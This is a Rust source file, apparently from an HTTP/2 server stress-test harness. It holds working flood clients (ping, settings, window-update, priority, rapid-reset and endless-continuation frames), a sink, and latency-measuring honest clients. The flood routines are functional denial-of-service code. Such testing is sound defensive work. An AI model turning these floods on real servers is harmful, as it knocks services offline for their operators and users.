//! Clients that do harm, those beside them that do not, and a sink that takes anything: for `floods`.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};

use crate::numbers::{ms, quantile};

pub const KINDS: [&str; 6] = ["ping", "settings", "window_update", "priority", "rapid_reset", "continuation"];

/// Frames go out in pieces of about this size.
const PIECE_BYTES: usize = 64 * 1024;
/// A peer that takes nothing for so long is given up, and another connection is made.
const WRITE_MAX: Duration = Duration::from_millis(500);
/// Streams that one connection may have at all: below 2^31.
const STREAMS_MAX: u32 = 1 << 20;

const CLIENTS: usize = 16;
/// A client of many asks at set times, whether the answer before was quick or not.
const BETWEEN_REQUESTS: Duration = Duration::from_millis(20);
const REQUEST: &[u8] = b"GET / HTTP/1.1\r\nhost: web.test\r\n\r\n";

/// `role-flooder KIND ADDRESS MILLIS`: one connection at a time, as fast as it goes; prints the connections and the frames.
pub(crate) fn play(arguments: &[String]) -> anyhow::Result<()> {
    let (kind, address, millis): (&str, SocketAddr, u64) = (&arguments[0], arguments[1].parse()?, arguments[2].parse()?);
    let until = Instant::now() + Duration::from_millis(millis);
    let (mut connections, mut frames) = (0u64, 0u64);
    while Instant::now() < until {
        let Ok(mut stream) = TcpStream::connect(address) else { continue };
        connections += 1;
        stream.set_write_timeout(Some(WRITE_MAX))?;
        let hello = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(4, 0, 0, &[])].concat();
        if stream.write_all(&hello).is_err() {
            continue;
        }
        let mut reader = stream.try_clone()?;
        // What comes back is read, or a flood would stop by itself.
        let reading = std::thread::spawn(move || while matches!(reader.read(&mut [0; 16 * 1024]), Ok(1..)) {});
        let mut next_stream = 1;
        while Instant::now() < until && next_stream < STREAMS_MAX {
            let (piece, count) = piece(kind, &mut next_stream)?;
            if stream.write_all(&piece).is_err() {
                break;
            }
            frames += count;
        }
        let _ = stream.shutdown(std::net::Shutdown::Both);
        let _ = reading.join();
    }
    println!("{connections} {frames}");
    Ok(())
}

/// Many frames, and how many.
fn piece(kind: &str, next_stream: &mut u32) -> anyhow::Result<(Vec<u8>, u64)> {
    let one = match kind {
        "ping" => frame(6, 0, 0, &[0; 8]),
        "settings" => frame(4, 0, 0, &[]),
        "window_update" => frame(8, 0, 0, &1u32.to_be_bytes()),
        "priority" => frame(2, 0, 1, &[0, 0, 0, 3, 16]),
        "rapid_reset" => return Ok(resets(next_stream)),
        // A head that never ends.
        "continuation" => return Ok(continuations(next_stream)),
        other => bail!("no flood is called {other}"),
    };
    let count = PIECE_BYTES / one.len();
    Ok((one.repeat(count), count as u64))
}

/// `GET /`, with indices of the static table and one literal (RFC 7541).
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'a'];

fn resets(next_stream: &mut u32) -> (Vec<u8>, u64) {
    let (mut bytes, mut count) = (Vec::with_capacity(PIECE_BYTES), 0);
    while bytes.len() < PIECE_BYTES {
        bytes.extend(frame(1, 5, *next_stream, GET));
        bytes.extend(frame(3, 0, *next_stream, &8u32.to_be_bytes()));
        *next_stream += 2;
        count += 2;
    }
    (bytes, count)
}

fn continuations(next_stream: &mut u32) -> (Vec<u8>, u64) {
    let mut bytes = if *next_stream == 1 { frame(1, 1, 1, GET) } else { Vec::new() };
    *next_stream = 3;
    let one = frame(9, 0, 1, b"\x00\x01x\x01y");
    let count = PIECE_BYTES / one.len();
    bytes.extend(one.repeat(count));
    (bytes, count as u64)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// `role-sink PORT`: reads whatever comes, and says nothing.
pub(crate) fn play_sink(arguments: &[String]) -> anyhow::Result<()> {
    let listener = TcpListener::bind(("127.0.0.1", arguments[0].parse()?))?;
    for mut stream in listener.incoming().flatten() {
        std::thread::spawn(move || {
            let mut space = [0; 8 * 1024];
            while matches!(stream.read(&mut space), Ok(1..)) {}
        });
    }
    Ok(())
}

/// `role-honest ADDRESS MILLIS`: prints the answers, the failures, and the 50th and the 99th percentile of their milliseconds.
pub(crate) fn play_honest(arguments: &[String]) -> anyhow::Result<()> {
    let (address, millis): (SocketAddr, u64) = (arguments[0].parse()?, arguments[1].parse()?);
    let until = Instant::now() + Duration::from_millis(millis);
    let clients: Vec<_> = (0..CLIENTS).map(|client| std::thread::spawn(move || ask(address, client as u32, until))).collect();
    let (mut times, mut failures) = (Vec::new(), 0);
    for client in clients {
        let (answered, failed) = client.join().ok().context("a client panicked")?;
        times.extend(answered);
        failures += failed;
    }
    println!("{} {failures} {} {}", times.len(), quantile(&times, 0.5), quantile(&times, 0.99));
    Ok(())
}

/// Milliseconds of each answer since it was due, and how many did not come.
fn ask(address: SocketAddr, client: u32, until: Instant) -> (Vec<f64>, u64) {
    let (mut times, mut failed, mut stream) = (Vec::new(), 0, None);
    let mut due = Instant::now() + BETWEEN_REQUESTS * client / CLIENTS as u32;
    while due < until {
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
        match exchange(&mut stream, address) {
            Ok(()) => times.push(ms(due.elapsed())),
            Err(_) => (failed, stream) = (failed + 1, None),
        }
        due += BETWEEN_REQUESTS;
    }
    (times, failed)
}

fn exchange(kept: &mut Option<TcpStream>, address: SocketAddr) -> anyhow::Result<()> {
    if kept.is_none() {
        let stream = TcpStream::connect(address)?;
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(Duration::from_secs(5)))?;
        *kept = Some(stream);
    }
    let stream = kept.as_mut().context("just made")?;
    stream.write_all(REQUEST)?;
    let (mut buffer, mut filled) = ([0; 16 * 1024], 0);
    loop {
        let size = stream.read(&mut buffer[filled..])?;
        anyhow::ensure!(size > 0, "closed");
        filled += size;
        if crate::hammer::is_whole(&buffer[..filled])? {
            return Ok(());
        }
    }
}
